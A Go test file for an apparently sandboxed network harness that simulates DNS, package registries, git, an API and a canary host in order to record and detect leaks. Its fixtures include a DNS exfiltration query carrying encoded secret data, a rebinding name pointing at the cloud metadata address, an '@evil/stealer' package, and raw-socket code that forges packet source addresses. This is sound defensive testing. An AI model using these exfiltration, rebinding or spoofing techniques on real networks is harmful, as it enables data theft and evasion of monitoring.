package world

import (
	"context"
	"encoding/json"
	"errors"
	"io"
	"net"
	"net/http"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/miekg/dns"
	"github.com/vishvananda/netlink"
	"golang.org/x/sys/unix"
)

func startWorld(t *testing.T) *World {
	t.Helper()
	if os.Geteuid() != 0 {
		t.Skip("skipping: the world needs root (network namespaces); CI runs as root")
	}
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	w, err := Start(ctx, Options{})
	if err != nil {
		t.Fatalf("start world: %v", err)
	}
	t.Cleanup(func() {
		if err := w.Close(); err != nil {
			t.Errorf("close world: %v", err)
		}
	})
	return w
}

func query(t *testing.T, w *World, proto, name string, qtype uint16) *dns.Msg {
	t.Helper()
	c := &dns.Client{Net: proto, Timeout: 3 * time.Second}
	m := new(dns.Msg)
	m.SetQuestion(dns.Fqdn(name), qtype)
	r, _, err := c.Exchange(m, w.DNSAddr().String())
	if err != nil {
		t.Fatalf("dns %s %s: %v", proto, name, err)
	}
	return r
}

func TestWorldDNS(t *testing.T) {
	w := startWorld(t)
	mark := w.Mark()
	for _, proto := range []string{"udp", "tcp"} {
		r := query(t, w, proto, "GIT.example.test", dns.TypeA)
		if r.Rcode != dns.RcodeSuccess || len(r.Answer) != 1 || !r.Authoritative {
			t.Fatalf("%s A git.example.test: %v", proto, r)
		}
		if got := r.Answer[0].(*dns.A).A.String(); got != w.Addr(RoleGit).String() {
			t.Errorf("%s A git.example.test = %s, want %s", proto, got, w.Addr(RoleGit))
		}
	}
	if r := query(t, w, "udp", "nothing-here.example.test", dns.TypeA); len(r.Answer) != 1 || r.Answer[0].(*dns.A).A.String() != w.Addr(RoleEvil).String() {
		t.Errorf("wildcard name: %v, want the evil address", r.Answer)
	}
	if r := query(t, w, "udp", "nothing-here.test", dns.TypeA); r.Rcode != dns.RcodeNameError {
		t.Errorf("unknown name: rcode %s, want NXDOMAIN", dns.RcodeToString[r.Rcode])
	}
	if r := query(t, w, "udp", "outside.invalid", dns.TypeA); r.Rcode != dns.RcodeRefused {
		t.Errorf("name outside the zone: rcode %s, want REFUSED", dns.RcodeToString[r.Rcode])
	}
	if r := query(t, w, "udp", "rebind-metadata.pkg.example.test", dns.TypeA); len(r.Answer) != 1 || r.Answer[0].(*dns.A).A.String() != "169.254.169.254" {
		t.Errorf("rebinding name: %v", r.Answer)
	}
	label := "c2VjcmV0LWRhdGEtZ29lcy1oZXJl"
	if r := query(t, w, "udp", label+"."+ExfilZone, dns.TypeTXT); len(r.Answer) != 1 {
		t.Errorf("exfil zone TXT: %v", r)
	}
	if got := w.Since(mark, ByKind(KindDNS), Containing(label)); len(got) != 1 {
		t.Errorf("the exfil query was recorded %d times, want 1", len(got))
	}
	if got := w.Since(mark, ByKind(KindDNS)); len(got) != 7 {
		t.Errorf("recorded %d queries, want 7: %v", len(got), got)
	}
}

func TestWorldHTTPS(t *testing.T) {
	w := startWorld(t)
	c := w.HTTPClient()
	get := func(url string, hdr ...string) (int, string) {
		t.Helper()
		req, _ := http.NewRequest("GET", url, nil)
		for i := 0; i+1 < len(hdr); i += 2 {
			req.Header.Set(hdr[i], hdr[i+1])
		}
		resp, err := c.Do(req)
		if err != nil {
			t.Fatalf("GET %s: %v", url, err)
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		return resp.StatusCode, string(b)
	}

	status, body := get(w.URL(RoleNPM) + "/airlock-demo")
	var doc struct {
		Versions map[string]struct {
			Dist struct{ Tarball, Integrity string }
		}
	}
	if status != 200 || json.Unmarshal([]byte(body), &doc) != nil || doc.Versions["1.0.0"].Dist.Integrity == "" {
		t.Fatalf("packument: %d %s", status, body)
	}
	if status, _ := get(doc.Versions["1.0.0"].Dist.Tarball); status != 200 {
		t.Errorf("tarball: %d", status)
	}
	if status, _ := get(w.URL(RoleNPM) + "/@evil%2fstealer"); status != 200 {
		t.Errorf("scoped packument: %d", status)
	}
	if status, body := get(w.URL(RolePyPI) + "/simple/airlock-demo/"); status != 200 || !strings.Contains(body, "airlock_demo-1.0.0-py3-none-any.whl#sha256=") {
		t.Errorf("simple index: %d %s", status, body)
	}

	mark := w.Mark()
	if status, body := get(w.URL(RoleAPI)+"/v1/items/7", "Authorization", "Bearer "+w.APIToken); status != 200 || !strings.Contains(body, `"auth":"ok"`) {
		t.Errorf("api with token: %d %s", status, body)
	}
	if status, body := get(w.URL(RoleAPI) + "/v1/items/7"); status != 401 || strings.Contains(body, w.APIToken) {
		t.Errorf("api without token: %d %s", status, body)
	}
	recs := w.Since(mark, ByRole(RoleAPI), ByKind(KindHTTP))
	if len(recs) != 2 || recs[0].Header.Get("Authorization") != "Bearer "+w.APIToken || recs[0].SNI != w.Name(RoleAPI) {
		t.Errorf("api records: %v", recs)
	}

	resp, err := c.Post(w.URL(RoleHooks)+"/hooks/ci", "application/json", strings.NewReader(`{"build":"ok"}`))
	if err != nil || resp.StatusCode != 200 {
		t.Fatalf("webhook: %v %v", resp, err)
	}
	resp.Body.Close()
	if recs := w.Since(mark, ByRole(RoleHooks)); len(recs) != 1 || string(recs[0].Body) != `{"build":"ok"}` || recs[0].Path != "/hooks/ci" {
		t.Errorf("hooks records: %v", recs)
	}

	// The world's certificates chain only to the world's CA.
	plain := &http.Client{Timeout: 5 * time.Second, Transport: &http.Transport{DialContext: (&net.Dialer{Resolver: w.Resolver()}).DialContext}}
	if _, err := plain.Get(w.URL(RoleNPM) + "/airlock-demo"); err == nil {
		t.Error("a client without the world CA trusted the world's certificate")
	}
	if len(w.Since(mark, Leaks)) != 0 {
		t.Errorf("leak records from legitimate traffic: %v", w.Since(mark, Leaks))
	}
}

func TestWorldGitCloneAndPushRecorded(t *testing.T) {
	w := startWorld(t)
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	dir := t.TempDir()
	git := func(args ...string) string {
		t.Helper()
		full := append([]string{"-c", "http.curloptResolve=" + w.Name(RoleGit) + ":443:" + w.Addr(RoleGit).String()}, args...)
		cmd := exec.CommandContext(ctx, "git", full...)
		cmd.Dir = dir
		cmd.Env = append(w.gitEnv(), "GIT_SSL_CAINFO="+w.CAFile, "GIT_TERMINAL_PROMPT=0")
		out, err := cmd.CombinedOutput()
		if err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
		return strings.TrimSpace(string(out))
	}
	mark := w.Mark()
	git("clone", "-q", w.GitURL(), "demo")
	b, err := os.ReadFile(filepath.Join(dir, "demo", "README.md"))
	if err != nil || string(b) != GitReadme {
		t.Fatalf("cloned README: %q %v", b, err)
	}
	if head := git("-C", "demo", "rev-parse", "HEAD"); head != w.GitHead {
		t.Errorf("cloned HEAD %s, want %s", head, w.GitHead)
	}
	if p := w.Pushes(mark); len(p) != 0 {
		t.Fatalf("a clone was recorded as a push: %v", p)
	}
	// The recorder must see a push for the e2e "never received a push"
	// assertions to mean anything.
	os.WriteFile(filepath.Join(dir, "demo", "new.txt"), []byte("x\n"), 0o644)
	git("-C", "demo", "add", "new.txt")
	git("-C", "demo", "-c", "user.name=t", "-c", "user.email=t@example.test", "commit", "-qm", "push me")
	git("-C", "demo", "push", "-q", "origin", "main")
	if p := w.Pushes(mark); len(p) < 2 {
		t.Errorf("push recorded %d requests, want the receive-pack discovery and POST: %v", len(p), p)
	}
}

func TestWorldPackageClients(t *testing.T) {
	w := startWorld(t)
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	env := append(os.Environ(), "SSL_CERT_FILE="+w.CAFile, "NODE_EXTRA_CA_CERTS="+w.CAFile,
		"npm_config_cafile="+w.CAFile, "PIP_CERT="+w.CAFile, "REQUESTS_CA_BUNDLE="+w.CAFile,
		"PIP_DISABLE_PIP_VERSION_CHECK=1", "PIP_NO_CACHE_DIR=1", "npm_config_cache="+t.TempDir())
	run := func(name string, args ...string) string {
		t.Helper()
		cmd := w.Command(ctx, name, args...)
		cmd.Env = env
		cmd.Dir = t.TempDir()
		out, err := cmd.CombinedOutput()
		if err != nil {
			t.Fatalf("%s %v: %v\n%s", name, args, err, out)
		}
		return string(out)
	}
	t.Run("npm", func(t *testing.T) {
		if _, err := exec.LookPath("npm"); err != nil {
			t.Skip("skipping: npm is not installed on the host")
		}
		dir := t.TempDir()
		run("npm", "install", "--prefix", dir, "--no-audit", "--no-fund", "--registry", w.URL(RoleNPM)+"/", "airlock-demo")
		for _, p := range []string{"airlock-demo", "airlock-helper"} {
			if _, err := os.Stat(filepath.Join(dir, "node_modules", p, "index.js")); err != nil {
				t.Errorf("npm did not install %s: %v", p, err)
			}
		}
	})
	t.Run("pip", func(t *testing.T) {
		if _, err := exec.LookPath("pip3"); err != nil {
			t.Skip("skipping: pip3 is not installed on the host")
		}
		dir := t.TempDir()
		run("pip3", "install", "-q", "--target", dir, "--index-url", w.URL(RolePyPI)+"/simple/", "airlock-demo")
		if b, err := os.ReadFile(filepath.Join(dir, "airlock_demo", "__init__.py")); err != nil || !strings.Contains(string(b), "airlock-demo==1.0.0") {
			t.Errorf("pip did not install airlock-demo: %q %v", b, err)
		}
	})
}

func TestWorldCanary(t *testing.T) {
	w := startWorld(t)
	mark := w.Mark()
	canary := w.Addr(RoleCanary)
	c, err := net.DialTimeout("tcp", netip.AddrPortFrom(canary, 5432).String(), 3*time.Second)
	if err != nil {
		t.Fatalf("dial canary: %v", err)
	}
	b, _ := io.ReadAll(c)
	c.Close()
	if !strings.Contains(string(b), CanaryBody) {
		t.Errorf("canary said %q", b)
	}
	u, err := net.Dial("udp", netip.AddrPortFrom(canary, 9999).String())
	if err != nil {
		t.Fatal(err)
	}
	u.Write([]byte("hello"))
	u.SetReadDeadline(time.Now().Add(3 * time.Second))
	u.Read(make([]byte, 64))
	u.Close()
	// A port nothing listens on still shows in the capture.
	u2, _ := net.Dial("udp", netip.AddrPortFrom(canary, 31337).String())
	u2.Write([]byte("x"))
	u2.Close()
	// A packet from a source that is not the host end is foreign.
	spoof := netip.MustParseAddr("198.18.250.9")
	if err := sendSpoofedUDP(spoof, w.Addr(RoleDNS), 53); err != nil {
		t.Fatalf("spoofed packet: %v", err)
	}
	waitFor(t, func() bool {
		return len(w.Since(mark, func(r Record) bool { return r.Foreign })) > 0 &&
			len(w.Since(mark, ByKind(KindPacket), func(r Record) bool { return r.DPort == 31337 })) > 0
	})
	hits := w.Since(mark, ByRole(RoleCanary))
	kinds := map[string]bool{}
	for _, h := range hits {
		kinds[string(h.Kind)+"/"+h.Proto] = true
	}
	for _, want := range []string{"conn/tcp", "conn/udp", "packet/tcp", "packet/udp"} {
		if !kinds[want] {
			t.Errorf("canary did not record %s: %v", want, hits)
		}
	}
	f := w.Since(mark, func(r Record) bool { return r.Foreign })
	if f[0].Src != spoof.String() || !Leaks(f[0]) {
		t.Errorf("foreign record %v", f[0])
	}
}

func waitFor(t *testing.T, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(5 * time.Second)
	for !cond() {
		if time.Now().After(deadline) {
			t.Fatal("condition not met within 5s")
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// sendSpoofedUDP sends one IPv4/UDP packet with a forged source address
// from the host, using a raw socket with IP_HDRINCL.
func sendSpoofedUDP(src, dst netip.Addr, port uint16) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	payload := []byte("spoof")
	pkt := make([]byte, 28+len(payload))
	pkt[0] = 0x45
	total := len(pkt)
	pkt[2], pkt[3] = byte(total>>8), byte(total)
	pkt[8] = 64
	pkt[9] = unix.IPPROTO_UDP
	s4, d4 := src.As4(), dst.As4()
	copy(pkt[12:16], s4[:])
	copy(pkt[16:20], d4[:])
	pkt[20], pkt[21] = 0x30, 0x39
	pkt[22], pkt[23] = byte(port>>8), byte(port)
	ulen := 8 + len(payload)
	pkt[24], pkt[25] = byte(ulen>>8), byte(ulen)
	copy(pkt[28:], payload)
	return unix.Sendto(fd, pkt, 0, &unix.SockaddrInet4{Addr: d4})
}

func TestWorldCloseLeavesNothing(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("skipping: the world needs root (network namespaces); CI runs as root")
	}
	w, err := Start(context.Background(), Options{})
	if err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatalf("close: %v", err)
	}
	if err := w.Close(); err != nil {
		t.Fatalf("second close: %v", err)
	}
	for _, p := range []string{filepath.Join("/run/netns", w.NetNS), filepath.Join("/etc/netns", w.NetNS), w.Dir} {
		if _, err := os.Stat(p); !errors.Is(err, os.ErrNotExist) {
			t.Errorf("%s still exists after Close (%v)", p, err)
		}
	}
	if _, err := netlink.LinkByName(w.HostLink); err == nil {
		t.Errorf("veth %s still exists after Close", w.HostLink)
	}
	// No route into the world's prefix is left on the host. (Never dial a
	// world address after Close: it would leave through the default route.)
	routes, err := netlink.RouteList(nil, netlink.FAMILY_V4)
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range routes {
		if r.Dst != nil && r.Dst.Contains(net.IP(w.HostAddr.AsSlice())) && !r.Dst.IP.IsUnspecified() {
			t.Errorf("route %v into the world's prefix is left", r)
		}
	}
}

// TestWorldCloseBesideAUserNamespace: a mount namespace made in a user
// namespace while the world lives (as rootless Podman's pause process
// makes one) does not keep the world's netns name alive after Close: the
// name's mount reaches it as a propagated mount and goes with the
// removal, instead of staying locked there (EBUSY for good).
func TestWorldCloseBesideAUserNamespace(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("skipping: the world needs root (network namespaces); CI runs as root")
	}
	w, err := Start(context.Background(), Options{})
	if err != nil {
		t.Fatal(err)
	}
	holder := exec.Command("unshare", "--user", "--map-root-user", "--mount", "--propagation", "slave", "sleep", "60")
	if err := holder.Start(); err != nil {
		w.Close()
		t.Fatalf("unshare: %v", err)
	}
	defer func() { holder.Process.Kill(); holder.Wait() }()
	time.Sleep(200 * time.Millisecond) // the copy of the mount table is made
	if err := w.Close(); err != nil {
		t.Fatalf("close beside a user namespace: %v", err)
	}
	if _, err := os.Stat(filepath.Join("/run/netns", w.NetNS)); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("the world's netns name is left (%v)", err)
	}
}

func TestParseFrame(t *testing.T) {
	eth := func(typ uint16, b []byte) []byte {
		return append([]byte{0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 2, byte(typ >> 8), byte(typ)}, b...)
	}
	v4 := []byte{0x45, 0, 0, 28, 0, 0, 0, 0, 64, 17, 0, 0, 198, 18, 0, 5, 198, 19, 1, 99, 0x30, 0x39, 0, 53, 0, 8, 0, 0}
	p, ok := parseFrame(eth(unix.ETH_P_IP, v4))
	if !ok || p.proto != "udp" || p.src.String() != "198.18.0.5" || p.dst.String() != "198.19.1.99" || p.dport != 53 {
		t.Errorf("ipv4 udp: %+v %v", p, ok)
	}
	frag := append([]byte(nil), v4...)
	frag[6], frag[7] = 0, 10 // a later fragment: no port
	if p, _ := parseFrame(eth(unix.ETH_P_IP, frag)); p.dport != 0 {
		t.Errorf("fragment port %d", p.dport)
	}
	v6 := make([]byte, 44)
	v6[0] = 0x60
	v6[6] = 6
	copy(v6[8:24], netip.MustParseAddr("2001:2::5").AsSlice())
	copy(v6[24:40], netip.MustParseAddr("2001:2::63").AsSlice())
	v6[42], v6[43] = 1, 187
	if p, ok := parseFrame(eth(unix.ETH_P_IPV6, v6)); !ok || p.proto != "tcp" || p.dport != 443 || p.dst.String() != "2001:2::63" {
		t.Errorf("ipv6 tcp: %+v", p)
	}
	for name, f := range map[string][]byte{"short": {1, 2}, "arp": eth(unix.ETH_P_ARP, make([]byte, 28)), "truncated v4": eth(unix.ETH_P_IP, v4[:10])} {
		if _, ok := parseFrame(f); ok {
			t.Errorf("%s: parsed", name)
		}
	}
}

// FuzzParseFrame: the capture parses whatever arrives on the wire; it must
// never panic, and a parsed packet always has both addresses.
func FuzzParseFrame(f *testing.F) {
	f.Add([]byte{})
	f.Add(append(make([]byte, 12), 0x08, 0x00, 0x45, 0, 0, 20, 0, 0, 0, 0, 64, 17, 0, 0, 1, 2, 3, 4, 5, 6, 7, 8))
	f.Add(append(make([]byte, 12), 0x86, 0xdd, 0x60))
	f.Fuzz(func(t *testing.T, b []byte) {
		p, ok := parseFrame(b)
		if ok && (!p.src.IsValid() || !p.dst.IsValid()) {
			t.Fatalf("parsed %x into %+v", b, p)
		}
	})
}
